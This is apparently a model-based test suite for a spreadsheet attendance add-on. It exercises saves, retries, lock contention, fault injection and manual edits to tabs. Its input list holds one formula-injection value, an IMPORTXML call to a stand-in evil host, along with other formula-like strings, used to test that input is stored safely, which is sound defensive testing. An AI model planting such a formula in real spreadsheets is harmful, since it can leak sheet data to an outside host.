/**
 * The commands of the model-based suite (fast-check model-based testing): what the add-on's users
 * send through the sidebar, and what they do by hand to the tabs. Each command runs against the
 * offline runtime, updates the model, and then checks the whole record against it.
 */
import fc from 'fast-check';
import { STATUSES } from '../../src/core/types';
import type {
  AttendanceInput,
  EntryChangeResult,
  SaveSessionRequest,
  SaveSessionResult,
  Status,
} from '../../src/core/types';
import type { OfflineEnvironment } from '../../src/runtime';
import { failure, newRequestId } from '../server/fixtures';
import { unclearReasons } from './clearMessage';
import type { Figures } from './figures';
import { patternsProblems } from './patternsCheck';
import { RecordModel, TODAY_IN_ZONE, compareRecord } from './recordModel';
import { addDays } from '../../src/core/dates';
import * as user from './userActions';
import {
  acknowledgePhoneSave,
  expectedOutcome,
  fillPhoneForm,
  hasQuickEntry,
  phoneOutcome,
  recordedInModel,
  tickSave,
} from './phoneSave';
import { quickEntrySheet, readQuickEntry } from '../server/quickEntryHelpers';

export interface Real {
  env: OfflineEnvironment;
  figures: Figures;
}

type Command = fc.Command<RecordModel, Real>;

const LOCK_BUSY = /Another save is in progress.*nothing was saved/i;

/** After every command: the record equals the model; anything else is a defect with its story. */
export function verify(model: RecordModel, real: Real, after: string): void {
  real.figures.commands += 1;
  const found = compareRecord(real.env, model);
  real.figures.lost += found.lost;
  real.figures.duplicated += found.duplicated;
  real.figures.altered += found.altered;
  real.figures.collided += found.collided;
  const problems = [...found.problems, ...(model.patterns === 'fresh' ? patternsProblems(real.env) : [])];
  if (problems.length) throw new Error(`after ${after}:\n  ${problems.slice(0, 12).join('\n  ')}`);
}

// ---- what a save carries ----

const REASONS = ['', 'illness', ' transport ', 'planned break', '=IMPORTXML("https://evil.example","//a")'];
const NOTES = ['', 'called ahead', '+2 weeks', '@home', 'first\nsecond', '-', "'quoted"];

export interface MarkSpec {
  client: number;
  status: Status;
  reason: string;
  notice: boolean | undefined;
  note: string;
  followUp: boolean;
}

export interface SaveSpec {
  marks: MarkSpec[];
  day: number;
  group: string;
}

const markSpec: fc.Arbitrary<MarkSpec> = fc.record({
  client: fc.nat(40),
  status: fc.constantFrom(...STATUSES),
  reason: fc.constantFrom(...REASONS),
  notice: fc.constantFrom(undefined, true, false),
  note: fc.constantFrom(...NOTES),
  followUp: fc.boolean(),
});

export const saveSpec: fc.Arbitrary<SaveSpec> = fc.record({
  marks: fc.array(markSpec, { minLength: 1, maxLength: 5 }),
  day: fc.integer({ min: -90, max: 0 }),
  group: fc.constantFrom('Monday group', 'Tuesday group', '', ' Monday group '),
});

/** The request a spec makes over the roster as it now is (one mark per client). */
export function saveRequest(model: RecordModel, spec: SaveSpec): SaveSessionRequest {
  const marks = new Map<string, AttendanceInput>();
  for (const m of spec.marks) {
    const client = model.roster[m.client % model.roster.length];
    if (marks.has(client.id)) continue;
    const mark: AttendanceInput = { clientId: client.id, status: m.status, note: m.note, followUp: m.followUp };
    if (m.reason) mark.reason = m.reason;
    if (m.notice !== undefined) mark.notice = m.notice;
    marks.set(client.id, mark);
  }
  return {
    requestId: newRequestId(),
    date: addDays(TODAY_IN_ZONE, spec.day),
    group: spec.group,
    attendance: [...marks.values()],
  };
}

function expectSaved(result: SaveSessionResult, request: SaveSessionRequest): void {
  if (
    result.duplicate ||
    result.saved !== request.attendance.length ||
    result.entryIds.length !== request.attendance.length
  ) {
    throw new Error(`a new save answered ${JSON.stringify(result)}`);
  }
}

// ---- commands sent through the sidebar ----

class SaveSession implements Command {
  constructor(readonly spec: SaveSpec) {}
  check = () => true;
  run(model: RecordModel, real: Real): void {
    const request = saveRequest(model, this.spec);
    const result = real.env.run<SaveSessionResult>('saveSession', request);
    expectSaved(result, request);
    model.acknowledgeSave(request, result.entryIds);
    model.patterns = 'fresh';
    verify(model, real, this.toString());
  }
  toString = () => `saveSession(${this.spec.marks.length} marks)`;
}

/** The same request again (a double click, a network retry): stored once, answered duplicate. */
class SendAgain implements Command {
  constructor(readonly pick: number) {}
  check = (model: Readonly<RecordModel>) => model.requests.size > 0;
  run(model: RecordModel, real: Real): void {
    const sent = [...model.requests.values()][this.pick % model.requests.size];
    const result = real.env.run<SaveSessionResult & EntryChangeResult>(sent.endpoint, sent.payload);
    const ids = sent.endpoint === 'saveSession' ? result.entryIds : [result.entryId];
    if (!result.duplicate || JSON.stringify(ids) !== JSON.stringify(sent.entryIds)) {
      throw new Error(
        `${sent.endpoint} sent again answered ${JSON.stringify(result)}, first answer was ${JSON.stringify(sent.entryIds)}`,
      );
    }
    verify(model, real, this.toString());
  }
  toString = () => `sendAgain(${this.pick})`;
}

/**
 * Two therapists saving at once: B runs in full at service call `point` of A. Whichever cannot
 * have the lock says so and stores nothing; pressing Save again then stores it once.
 */
class InterleavedSaves implements Command {
  constructor(
    readonly a: SaveSpec,
    readonly b: SaveSpec,
    readonly point: number,
  ) {}
  check = () => true;
  run(model: RecordModel, real: Real): void {
    const { env } = real;
    const first = saveRequest(model, this.a);
    const second = saveRequest(model, this.b);
    let outer: number | null = null;
    let calls = 0;
    let inner: { result?: SaveSessionResult; error?: string } | null = null;
    env.beforeServiceCall = (_method, execution) => {
      outer ??= execution;
      if (execution !== outer || inner) return;
      calls += 1;
      if (calls !== this.point) return;
      inner = {};
      try {
        inner.result = env.run<SaveSessionResult>('saveSession', second);
      } catch (error) {
        inner.error = (error as Error).message;
      }
    };
    let outcome: { result?: SaveSessionResult; error?: string };
    try {
      outcome = { result: env.run<SaveSessionResult>('saveSession', first) };
    } catch (error) {
      outcome = { error: (error as Error).message };
    } finally {
      env.beforeServiceCall = null;
    }
    const secondOutcome: { result?: SaveSessionResult; error?: string } = inner ?? {};
    if (inner) real.figures.interleavings += 1;
    for (const [request, got] of [
      [second, secondOutcome],
      [first, outcome],
    ] as const) {
      if (got.error !== undefined && !LOCK_BUSY.test(got.error))
        throw new Error(`interleaved save failed with ${got.error}`);
      if (got.result) {
        expectSaved(got.result, request);
        model.acknowledgeSave(request, got.result.entryIds);
        model.patterns = 'fresh';
      }
    }
    verify(model, real, `${this.toString()} before retries`);
    // Save pressed again for whatever was refused (or never ran, when A made fewer calls).
    for (const [request, got] of [
      [second, secondOutcome],
      [first, outcome],
    ] as const) {
      if (got.result) continue;
      const retried = env.run<SaveSessionResult>('saveSession', request);
      expectSaved(retried, request);
      model.acknowledgeSave(request, retried.entryIds);
      model.patterns = 'fresh';
    }
    verify(model, real, this.toString());
  }
  toString = () => `interleavedSaves(at call ${this.point})`;
}

/**
 * A save hit by a service failure at call `point` (of whatever method that call is), then Save
 * pressed again: the retry stores the session once, whatever the first attempt left behind.
 */
class SaveWithFault implements Command {
  constructor(
    readonly spec: SaveSpec,
    readonly point: number,
  ) {}
  check = () => true;
  run(model: RecordModel, real: Real): void {
    const { env } = real;
    const request = saveRequest(model, this.spec);
    let outer: number | null = null;
    let calls = 0;
    let injected = '';
    env.beforeServiceCall = (method, execution) => {
      outer ??= execution;
      if (execution !== outer) return;
      calls += 1;
      if (calls === this.point) {
        injected = method;
        env.injectFault({ method, nth: 1 });
      }
    };
    const error = failure(() => env.run<SaveSessionResult>('saveSession', request));
    env.beforeServiceCall = null;
    if (injected) real.figures.faults += 1;
    if (error !== null && (!injected || unclearReasons(error).length))
      throw new Error(`a save with ${injected || 'no'} fault failed with ${error}`);
    const retried = env.run<SaveSessionResult>('saveSession', request);
    if (retried.entryIds.length !== request.attendance.length || (error === null && !retried.duplicate)) {
      throw new Error(`the retry after a fault at ${injected} answered ${JSON.stringify(retried)}`);
    }
    model.acknowledgeSave(request, retried.entryIds);
    model.patterns = 'fresh';
    verify(model, real, this.toString());
  }
  toString = () => `saveWithFault(at call ${this.point})`;
}

/**
 * A session recorded on a phone: the Quick entry tab (set up first if it is not there), each
 * action a person's edit firing onEdit. The status line must say what the model expects (saved;
 * refused as already recorded; refused for want of the lock) and the record must hold exactly that.
 */
class QuickEntrySave implements Command {
  constructor(readonly spec: SaveSpec) {}
  check = () => true;
  run(model: RecordModel, real: Real): void {
    const form = fillPhoneForm(real.env, model, this.spec);
    if (form) {
      const expected = expectedOutcome(recordedInModel(model, form.date, form.group));
      tickSave(real.env);
      const status = readQuickEntry(real.env).status;
      const outcome = phoneOutcome(status);
      if (outcome !== expected) throw new Error(`the phone save said "${status}", expected ${expected}`);
      if (outcome === 'saved') acknowledgePhoneSave(real.env, model, form);
    }
    verify(model, real, this.toString());
  }
  toString = () => `quickEntrySave(${this.spec.group.trim() || 'no group'}, day ${this.spec.day})`;
}

/** Save ticked again on the phone after a save: nothing more is stored. */
class QuickEntryTickAgain implements Command {
  check = () => true;
  run(model: RecordModel, real: Real): void {
    if (!hasQuickEntry(real.env)) return;
    tickSave(real.env);
    verify(model, real, this.toString());
  }
  toString = () => 'quickEntryTickAgain';
}

class CorrectEntry implements Command {
  constructor(
    readonly pick: number,
    readonly mark: MarkSpec,
  ) {}
  check = (model: Readonly<RecordModel>) => (model as RecordModel).current().length > 0;
  run(model: RecordModel, real: Real): void {
    const current = model.current();
    const entryId = current[this.pick % current.length]['Entry ID'];
    const request = {
      requestId: newRequestId(),
      entryId,
      status: this.mark.status,
      reason: this.mark.reason,
      note: this.mark.note,
      followUp: this.mark.followUp,
      ...(this.mark.notice === undefined ? {} : { notice: this.mark.notice }),
    };
    const result = real.env.run<EntryChangeResult>('correctEntry', request);
    if (result.duplicate) throw new Error(`a new correction answered duplicate: ${JSON.stringify(result)}`);
    model.acknowledgeChange('correctEntry', request, result.entryId);
    model.patterns = 'fresh';
    verify(model, real, this.toString());
  }
  toString = () => `correctEntry(${this.pick}, ${this.mark.status})`;
}

class WithdrawEntry implements Command {
  constructor(
    readonly pick: number,
    readonly note: string,
  ) {}
  check = (model: Readonly<RecordModel>) => (model as RecordModel).current().length > 0;
  run(model: RecordModel, real: Real): void {
    const current = model.current();
    const entryId = current[this.pick % current.length]['Entry ID'];
    const request = { requestId: newRequestId(), entryId, note: this.note };
    const result = real.env.run<EntryChangeResult>('withdrawEntry', request);
    if (result.duplicate) throw new Error(`a new withdrawal answered duplicate: ${JSON.stringify(result)}`);
    model.acknowledgeChange('withdrawEntry', request, result.entryId);
    model.patterns = 'fresh';
    verify(model, real, this.toString());
  }
  toString = () => `withdrawEntry(${this.pick})`;
}

class CompleteFollowUp implements Command {
  constructor(readonly pick: number) {}
  private open = (model: RecordModel) =>
    model.current().filter((r) => r['Follow up'] === 'yes' && r['Follow-up done'] === '');
  check = (model: Readonly<RecordModel>) => this.open(model as RecordModel).length > 0;
  run(model: RecordModel, real: Real): void {
    const open = this.open(model);
    const row = open[this.pick % open.length];
    const result = real.env.run<EntryChangeResult>('completeFollowUp', row['Entry ID']);
    if (result.duplicate) throw new Error('an open follow-up answered duplicate');
    model.acknowledgeFollowUpDone(row['Entry ID'], result.entryId, TODAY_IN_ZONE);
    verify(model, real, this.toString());
  }
  toString = () => `completeFollowUp(${this.pick})`;
}

class RefreshPatterns implements Command {
  check = () => true;
  run(model: RecordModel, real: Real): void {
    const error = failure(() => real.env.run('refreshPatterns'));
    if (error !== null) throw new Error(`Refresh patterns failed: ${error}`);
    model.patterns = 'fresh';
    verify(model, real, this.toString());
  }
  toString = () => 'refreshPatterns';
}

// ---- what users do by hand ----

/** A user action; `act` answers false when it does not apply to the workbook as it is. */
class ByHand implements Command {
  constructor(
    readonly name: string,
    readonly act: (env: OfflineEnvironment, model: RecordModel) => boolean,
  ) {}
  check = () => true;
  run(model: RecordModel, real: Real): void {
    if (!this.act(real.env, model)) return;
    real.figures.personEdits += 1;
    verify(model, real, this.toString());
  }
  toString = () => this.name;
}

let label = 0;
const nextLabel = () => (label += 1);

export const COMMANDS: fc.Arbitrary<Command>[] = [
  saveSpec.map((s) => new SaveSession(s)),
  saveSpec.map((s) => new SaveSession(s)),
  fc.nat().map((p) => new SendAgain(p)),
  fc.tuple(saveSpec, saveSpec, fc.integer({ min: 1, max: 220 })).map(([a, b, p]) => new InterleavedSaves(a, b, p)),
  fc.tuple(saveSpec, fc.integer({ min: 1, max: 220 })).map(([s, p]) => new SaveWithFault(s, p)),
  fc.tuple(fc.nat(), markSpec).map(([p, m]) => new CorrectEntry(p, m)),
  fc.tuple(fc.nat(), fc.constantFrom('', 'entered twice', '=1+1')).map(([p, n]) => new WithdrawEntry(p, n)),
  fc.nat().map((p) => new CompleteFollowUp(p)),
  fc.constant(null).map(() => new RefreshPatterns()),
  saveSpec.map((s) => new QuickEntrySave(s)),
  saveSpec.map((s) => new QuickEntrySave(s)),
  fc.constant(null).map(() => new QuickEntryTickAgain()),
  fc.constant(null).map(
    () =>
      new ByHand('rename the Quick entry tab', (env) => {
        if (!hasQuickEntry(env)) return false;
        quickEntrySheet(env).setName(`Phone ${nextLabel()}`);
        return true;
      }),
  ),
  fc.constant(null).map(
    () =>
      new ByHand('delete the Quick entry tab', (env) => {
        if (!hasQuickEntry(env) || env.spreadsheet.getSheets().length < 2) return false;
        env.spreadsheet.deleteSheet(quickEntrySheet(env));
        return true;
      }),
  ),
  fc.nat().map(
    (p) =>
      new ByHand(`type a note on the phone (${p})`, (env) => {
        if (!hasQuickEntry(env)) return false;
        const view = readQuickEntry(env);
        if (view.clients.length === 0) return false;
        const client = view.clients[p % view.clients.length].name;
        return !env.edit(view.sheetName, view.cell(client, 'Note'), `typed ${nextLabel()}`).error;
      }),
  ),
  fc.boolean().map(
    (ascending) =>
      new ByHand(`sort the phone's client rows ${ascending ? 'A-Z' : 'Z-A'}`, (env) => {
        if (!hasQuickEntry(env)) return false;
        const sheet = quickEntrySheet(env);
        const rows = readQuickEntry(env).clients.length;
        if (rows < 2) return false;
        sheet.getRange(sheet.getFrozenRows() + 1, 1, rows, 7).sort({ column: 1, ascending });
        return true;
      }),
  ),
  fc
    .tuple(fc.nat(), fc.boolean())
    .map(
      ([p, asc]) =>
        new ByHand(`sort record by column ${p} ${asc ? 'A-Z' : 'Z-A'}`, (env) => user.sortRecord(env, p, asc)),
    ),
  fc.constant(null).map(() => new ByHand('filter the record on/off', (env) => user.toggleFilter(env))),
  fc.nat().map((p) => new ByHand(`insert a blank column at ${p}`, (env) => user.insertBlankColumn(env, p))),
  fc
    .tuple(fc.nat(), fc.nat())
    .map(([f, t]) => new ByHand(`move column ${f} to ${t}`, (env) => user.moveColumn(env, f, t))),
  fc
    .nat()
    .map(
      (p) =>
        new ByHand(`add a column of the user's own at ${p}`, (env, model) =>
          user.addUserColumn(env, model, p, nextLabel()),
        ),
    ),
  fc.constant(null).map(() => new ByHand('rename the record tab', (env) => user.renameRecord(env, nextLabel()))),
  fc
    .nat()
    .map((p) => new ByHand(`rename heading ${p}`, (env, model) => user.renameHeading(env, model, p, nextLabel()))),
  fc
    .nat()
    .map(
      (p) =>
        new ByHand(`add a column of the user's own headed like Cadence's (${p})`, (env, model) =>
          user.addSameNameColumn(env, model, p),
        ),
    ),
  fc
    .constant(null)
    .map(
      () =>
        new ByHand("type a row of the user's own under the record", (env, model) =>
          user.typeRow(env, model, nextLabel()),
        ),
    ),
  fc.nat().map((p) => new ByHand(`insert a blank row among the entries (${p})`, (env) => user.insertBlankRow(env, p))),
  fc.constant(null).map(() => new ByHand('delete the Patterns tab', (env, model) => user.deletePatterns(env, model))),
  fc
    .nat()
    .map((p) => new ByHand(`rename roster client ${p}`, (env, model) => user.renameClient(env, model, p, nextLabel()))),
  fc.constant(null).map(() => new ByHand('add a roster row', (env, model) => user.addClient(env, model, nextLabel()))),
  fc
    .constant(null)
    .map(() => new ByHand("delete a tab of the user's own", (env, model) => user.deleteOtherSheet(env, model))),
];
